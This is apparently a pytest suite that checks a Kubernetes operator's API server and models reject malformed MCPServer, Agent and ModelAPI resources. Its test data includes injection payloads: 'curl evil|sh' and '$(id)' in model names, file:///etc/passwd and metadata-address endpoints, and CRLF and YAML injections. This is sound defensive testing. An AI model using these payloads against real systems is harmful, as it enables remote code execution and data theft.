"""Bad input that the API server itself refuses, before anything is stored: B1–B45 of the catalogue, on a real one.

Every document here goes to both validations there are, the CRD's and the models', and both must say the same.
"""

from __future__ import annotations

import json

import pytest

from kaos_core.errors import ResourceError
from kaos_core.kinds import agent, mcpserver, modelapi
from kaos_core.resources.base import parse

KINDS = {kind.name: kind for kind in (mcpserver.KIND, agent.KIND, modelapi.KIND)}
SHA = "sha256:" + "a" * 64


def document(kind="MCPServer", name="bad", **spec):
    return {"apiVersion": "kaos.tools/v1alpha1", "kind": kind, "metadata": {"name": name}, "spec": spec}


def server(**spec):
    return document(**{"runtime": "rawpython", **spec})


def container(**fields):
    return server(container=fields)


def env(**entry):
    return container(env=[{"name": "A", **entry}])


@pytest.fixture
def sent(control_plane):
    """What the API server answers to a document: the status code, and the message or the object. Nothing is stored."""

    def send(made, query=""):
        path = f"/apis/kaos.tools/v1alpha1/namespaces/default/{KINDS[made['kind']].plural}?dryRun=All{query}"
        return control_plane.request("POST", path, made)

    return send


@pytest.fixture
def refused(sent):
    """The message of a refusal that names the field, which the models refuse as well."""

    def send(made, field):
        status, answer = sent(made)
        assert status == 422, answer
        assert field in answer["message"], answer["message"]
        with pytest.raises(ResourceError):
            parse(KINDS[made["kind"]].load_model(), made)
        return answer["message"]

    return send


@pytest.fixture
def accepted(sent):
    """The object that would be stored, which the models accept as well."""

    def send(made):
        status, answer = sent(made)
        assert status == 201, answer
        parse(KINDS[made["kind"]].load_model(), made)
        return answer

    return send


# Runtime and params.


def test_b1_no_runtime(refused):
    """B1"""
    assert "Required value" in refused(document(), "spec.runtime")


def test_b2_an_empty_runtime(refused):
    """B2"""
    refused(server(runtime=""), "spec.runtime")


def test_b3_a_runtime_that_is_a_path(refused):
    """B3"""
    refused(server(runtime="../x"), "spec.runtime")


@pytest.mark.parametrize("runtime", ["a" * 64, "RawPython", "-a", "a-", "a_b", "a.b", "a\n", 5, ["a"]])
def test_b4_a_runtime_that_is_no_name(refused, runtime):
    """B4"""
    refused(server(runtime=runtime), "spec.runtime")


@pytest.mark.parametrize("spec", [{}, {"container": {}}, {"container": {"command": ["a"]}}])
def test_b5_custom_without_an_image(refused, spec):
    """B5"""
    refused(server(runtime="custom", **spec), "custom runtime requires container.image")


@pytest.mark.parametrize("field", ["tools", "config", "image"])
def test_b10_a_field_that_is_not_known_is_left_out_and_strict_clients_are_told(sent, field):
    """B10"""
    made = server(**{field: {"env": []}})
    status, stored = sent(made)
    assert (status, stored["spec"]) == (201, {"runtime": "rawpython"})
    status, answer = sent(made, "&fieldValidation=Strict")
    assert (status, f'unknown field "spec.{field}"' in answer["message"]) == (400, True)


def test_b10_kubectl_refuses_a_field_that_is_not_known(control_plane):
    """B10"""
    done = control_plane.kubectl("apply", "--dry-run=server", "-f", "-", input=json.dumps(server(tools=["a"])))
    assert done.returncode != 0
    assert 'unknown field "spec.tools"' in done.stderr


def test_b11_params_of_300_kib(refused, accepted):
    """B11: the message says what to do, and does not repeat the params."""
    message = refused(server(params="x" * 300 * 1024), "spec.params")
    assert "is longer than 114688 characters; put it into a ConfigMap" in message
    assert len(message) < 400
    refused(server(params="x" * 114_689), "spec.params")
    accepted(server(params="x" * 114_688))


def test_b12_params_with_a_nul(refused):
    """B12: what is no text. BOM, CRLF and lone surrogates: test_bad_input_accepted.py"""
    refused(server(params="def f():\0 pass"), "spec.params")


@pytest.mark.parametrize(
    "source", [{}, {name: {"name": "a", "key": "b"} for name in ("secretKeyRef", "configMapKeyRef")}]
)
def test_params_come_from_one_place(refused, source):
    refused(server(paramsFrom=source), "spec.paramsFrom")
    refused(server(params="x", paramsFrom={"secretKeyRef": {"name": "a", "key": "b"}}), "give params or paramsFrom")


# Environment.


def test_b22_a_variable_that_stands_twice(refused):
    """B22"""
    refused(
        container(env=[{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]), "spec.container.env[1]: Duplicate"
    )


@pytest.mark.parametrize("name", ["KAOS_", "KAOS_SERVICE_HOSTS"])
def test_b23_a_reserved_variable(refused, name):
    """B23, as the design rules it: only KAOS_* is reserved by itself. The runtime's own: test_bad_input_accepted.py"""
    refused(container(env=[{"name": name, "value": "x"}]), "names that begin with KAOS_ are reserved")
    refused(container(envFrom=[{"prefix": name, "secretRef": {"name": "a"}}]), "spec.container.envFrom[0]")


@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "PYTHONPATH", "MCP_TOOLS_STRING"])
def test_b23_other_names_are_the_users_own(accepted, name):
    """B23"""
    accepted(container(env=[{"name": name, "value": "x"}]))


@pytest.mark.parametrize("name", ["A=B", "A B", "A\n", "", "1A", "Ä", 5])
def test_b24_what_is_no_variable_name(refused, name):
    """B24"""
    refused(container(env=[{"name": name, "value": "x"}]), "spec.container.env[0].name")


@pytest.mark.parametrize("path", ["spec.nodeName", "status.hostIP", "metadata.annotations", "status.podIP\n"])
def test_b27_a_field_of_the_node(refused, path):
    """B27"""
    refused(env(valueFrom={"fieldRef": {"fieldPath": path}}), "spec.container.env[0].valueFrom.fieldRef.fieldPath")


def test_b27_a_secret_of_another_namespace(sent):
    """B27: the namespace is no field of the reference, so it is left out, and strict clients are told."""
    made = env(valueFrom={"secretKeyRef": {"name": "a", "key": "b", "namespace": "kube-system"}})
    stored = sent(made)[1]["spec"]["container"]["env"][0]["valueFrom"]
    assert stored == {"secretKeyRef": {"name": "a", "key": "b"}}
    assert sent(made, "&fieldValidation=Strict")[0] == 400
    with pytest.raises(ResourceError, match="unknown field"):
        parse(KINDS["MCPServer"].load_model(), made)


@pytest.mark.parametrize(
    "source",
    [
        {},
        {"secretKeyRef": {"name": "a", "key": "b"}, "fieldRef": {"fieldPath": "metadata.name"}},
        {"secretKeyRef": {"name": "a"}},
        {"secretKeyRef": {"name": "a", "key": "../b"}},
        {"secretKeyRef": {"name": "A b", "key": "b"}},
    ],
)
def test_a_value_comes_from_one_place(refused, source):
    refused(env(valueFrom=source), "spec.container.env[0].valueFrom")
    refused(env(value="x", valueFrom={"fieldRef": {"fieldPath": "metadata.name"}}), "give value or valueFrom, not both")


@pytest.mark.parametrize("source", [{}, {name: {"name": "a"} for name in ("secretRef", "configMapRef")}])
def test_whole_objects_as_variables_have_one_source(refused, source):
    refused(container(envFrom=[{"prefix": "A_", **source}]), "give exactly one of secretRef, configMapRef")


# Image, command, resources.


@pytest.mark.parametrize(
    "image",
    [
        "",
        " ",
        "a b",
        "registry.example/Repo",
        "Repo/image:1",
        ":tag",
        "http://registry.example/a",
        "a" * 300,
        "a:1\n",
        "-v",
        "a:",
    ],
)
def test_b28_what_is_no_image(refused, image):
    """B28"""
    refused(container(image=image), "spec.container.image")


@pytest.mark.parametrize("image", ["a@sha256:" + "a" * 63, "a@sha256:" + "A" * 64, "a@md5:" + "a" * 32, f"a@{SHA}a"])
def test_b29_a_digest_that_is_none(refused, image):
    """B29"""
    refused(container(image=image), "spec.container.image")


@pytest.mark.parametrize(
    "image", [f"reg.example:5000/a/b@{SHA}", f"reg.example/a/b:1.2@{SHA}", "localhost:5000/a__b/c:T"]
)
def test_b29_a_port_and_a_digest(accepted, image):
    """B29"""
    assert accepted(container(image=image))["spec"]["container"]["image"] == image


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"command": [""]}, "the first element is empty"),
        ({"command": ["", "a"]}, "the first element is empty"),
        ({"args": ["a"] * 10_000}, "spec.container.args"),
        ({"args": ["a\0b"]}, "spec.container.args[0]"),
        ({"command": ["a\0b"]}, "spec.container.command[0]"),
        ({"command": "a"}, "spec.container.command"),
        ({"args": [1]}, "spec.container.args[0]"),
    ],
)
def test_b31_what_is_no_command(refused, fields, field):
    """B31"""
    refused(container(**fields), field)


@pytest.mark.parametrize(
    "resources",
    [
        {"limits": {"cpu": "abc"}},
        {"limits": {"cpu": ""}},
        {"limits": {"memory": "1 Gi"}},
        {"limits": {"memory": -1}},
        {"requests": {"memory": "-1Gi"}},
        {"requests": {"memory": True}},
        {"limits": {"memory": "1e30"}},
        {"limits": {"memory": "9Ei"}},
        {"limits": {"memory": "64Mi"}, "requests": {"memory": "1Gi"}},
        {"limits": {"cpu": "100m"}, "requests": {"cpu": 1}},
        {"limits": {"cpu": 1}, "requests": {"cpu": "1001m"}},
    ],
)
def test_b32_resources_that_no_machine_has(refused, resources):
    """B32: also what only CEL can compare is refused before it is stored."""
    refused(container(resources=resources), "spec.container.resources")


@pytest.mark.parametrize(
    "resources",
    [
        {"limits": {"cpu": 1, "memory": "1Gi"}, "requests": {"cpu": "1000m", "memory": "1024Mi", "example.com/gpu": 1}},
        {"limits": {"cpu": ".5", "memory": "1E"}, "requests": {"cpu": "1e-1"}},
    ],
)
def test_b32_resources_as_kubernetes_writes_them(accepted, resources):
    """B32"""
    accepted(container(resources=resources))


@pytest.mark.parametrize(
    ("volumes", "field"),
    [
        ([{"emptyDir": {}}], "spec.volumes[0].name"),
        ([{"name": "", "emptyDir": {}}], "spec.volumes[0].name"),
        ([{"name": "my.config", "emptyDir": {}}], "spec.volumes[0].name"),
        ([{"name": "a" * 64, "emptyDir": {}}], "spec.volumes[0].name"),
        ([{"name": "a", "emptyDir": {}}, {"name": "a", "emptyDir": {}}], "spec.volumes[1]: Duplicate"),
    ],
)
def test_volumes_have_a_name_each(refused, volumes, field):
    refused(server(volumes=volumes), field)


# Telemetry, route, replicas.


@pytest.mark.parametrize(
    "endpoint",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "http://169.254.169.254",
        "http://169.254.1.1:4317/v1",
        "http://[fe80::1]:4317",
        "http://[FE80::1]",
        "http://a:b@host",
        "http://host\r\nX-Evil: 1",
        "http://host\n",
        "http://" + "h" * 2048,
        "http://g\u043eogle.example",
        "http://host/?a=b",
        "host:4317",
        "",
    ],
)
def test_b40_what_is_no_endpoint(refused, endpoint):
    """B40"""
    refused(server(telemetry={"enabled": True, "endpoint": endpoint}), "spec.telemetry.endpoint")


@pytest.mark.parametrize(
    "endpoint", ["http://otel:4317", "https://otel.example/v1/traces", "grpc://[2001:db8::1]:4317"]
)
def test_b40_endpoints(accepted, endpoint):
    """B40"""
    accepted(server(telemetry={"enabled": True, "endpoint": endpoint}))


@pytest.mark.parametrize("timeout", ["0", "-1s", "1h1h", "9999999h", "abc", "", "1.5s", "1s\n", 30])
def test_b41_what_is_no_duration(refused, timeout):
    """B41"""
    refused(server(gatewayRoute={"timeout": timeout}), "spec.gatewayRoute.timeout")


@pytest.mark.parametrize("timeout", ["0s", "30s", "1h30m", "99999h", "500ms"])
def test_b41_durations(accepted, timeout):
    """B41"""
    accepted(server(gatewayRoute={"timeout": timeout}))


@pytest.mark.parametrize("replicas", [-1, 10**9, 10**20, "3", 1.5, True])
def test_b42_replicas_that_cannot_be(refused, replicas):
    """B42. 0 replicas: test_bad_input_accepted.py"""
    refused(server(replicas=replicas), "spec.replicas")


# Agents and model APIs.


@pytest.mark.parametrize(
    "model", ["llama3; curl evil|sh #", "$(id)", "`id`", "a\nb", "a b", "-a", "", "a\0", "a'", 'a"', "a" * 257]
)
def test_b44_a_hosted_model_that_is_a_command(refused, model):
    """B44. That it becomes an element of argv: test_bad_input_accepted.py"""
    refused(document("ModelAPI", mode="Hosted", hostedConfig={"model": model}), "spec.hostedConfig.model")


@pytest.mark.parametrize("model", ['x"\n  callbacks: evil', "x\n", "x: y", "- x", "{x}", "", "&x", "!!x"])
def test_b45_a_proxied_model_that_is_yaml(refused, model):
    """B45. That the configuration is written by a serializer: test_bad_input_accepted.py"""
    made = document("ModelAPI", mode="Proxy", proxyConfig={"models": ["gpt-4", model]})
    refused(made, "spec.proxyConfig.models[1]")


@pytest.mark.parametrize(
    ("spec", "field"),
    [
        ({}, "give mode: Proxy or Hosted"),
        ({"mode": "Proxy", "type": "proxy"}, "give mode: Proxy or Hosted"),
        ({"mode": "proxy"}, "spec.mode"),
        ({"mode": "Hosted"}, "mode Hosted needs hostedConfig.model"),
        ({"mode": "Proxy", "proxyConfig": {"apiBase": "http://u:p@h"}}, "spec.proxyConfig.apiBase"),
        ({"mode": "Proxy", "proxyConfig": {"apiBase": "http://a\u00a0b"}}, "spec.proxyConfig.apiBase"),
        ({"mode": "Proxy", "proxyConfig": {"apiKey": {}}}, "spec.proxyConfig.apiKey"),
        ({"mode": "Proxy", "proxyConfig": {"configYaml": {}}}, "spec.proxyConfig.configYaml"),
    ],
)
def test_what_is_no_model_api(refused, spec, field):
    refused(document("ModelAPI", **spec), field)


@pytest.mark.parametrize(
    ("spec", "field"),
    [
        ({}, "spec.modelAPI"),
        ({"modelAPI": "A b"}, "spec.modelAPI"),
        ({"modelAPI": "a", "model": "x y"}, "spec.model"),
        ({"modelAPI": "a", "model": "x\u2003y"}, "spec.model"),
        ({"modelAPI": "a", "mcpServers": ["b", "b"]}, "spec.mcpServers[1]: Duplicate"),
        ({"modelAPI": "a", "allowedTools": {"b": ["c"]}}, "allowedTools names a server that mcpServers does not"),
        ({"modelAPI": "a", "config": {"reasoningLoopMaxSteps": 21}}, "spec.config.reasoningLoopMaxSteps"),
        ({"modelAPI": "a", "config": {"memory": {"redisUrl": "redis://u:p@h"}}}, "spec.config.memory.redisUrl"),
    ],
)
def test_what_is_no_agent(refused, spec, field):
    refused(document("Agent", **spec), field)


@pytest.mark.parametrize(
    "headers", [{"name": "A"}, {"name": "A", "value": "x", "valueFrom": {"secretKeyRef": {"name": "a", "key": "b"}}}]
)
def test_a_header_has_one_value(refused, headers):
    refused(server(headers=[headers]), "give exactly one of value, valueFrom")
    refused(server(headers=[{"name": "A", "value": "x\r\nB: y"}]), "spec.headers[0].value")


def test_null_is_as_good_as_nothing(accepted):
    """Both validations take a null for a field that was left out."""
    made = server(params=None, replicas=None, podSpec=None, container={"command": None, "env": None, "resources": None})
    assert accepted(made)["spec"] == {"runtime": "rawpython", "container": {}}
